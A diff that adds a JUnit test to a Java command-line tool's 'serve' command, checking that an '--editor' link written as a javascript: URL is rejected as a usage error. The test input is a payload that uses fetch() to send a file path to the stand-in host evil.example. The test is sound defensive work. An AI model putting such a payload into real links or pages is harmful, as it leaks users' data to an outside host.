@@ -36,4 +36,15 @@ class ServeCommandTest {
         assertEquals(2, outcome.exit());
         assertTrue(outcome.err().contains("--port must be between 0 and 65535"), outcome.err());
     }
+
+    @Test
+    void anEditorLinkThatRunsScriptIsAUsageError() {
+        CliHarness cli = new CliHarness(temp);
+        CliHarness.Outcome outcome = cli.run("serve", cli.publication().resolve("2030-01").toString(), "--port", "0",
+                "--editor", "javascript:fetch('//evil.example/'+'{path}')");
+        assertEquals(2, outcome.exit());
+        assertTrue(outcome.err().contains("The editor link 'javascript:") && outcome.err().contains("opens no editor"),
+                outcome.err());
+        CliHarness.assertNoJavaNoise(outcome);
+    }
 }
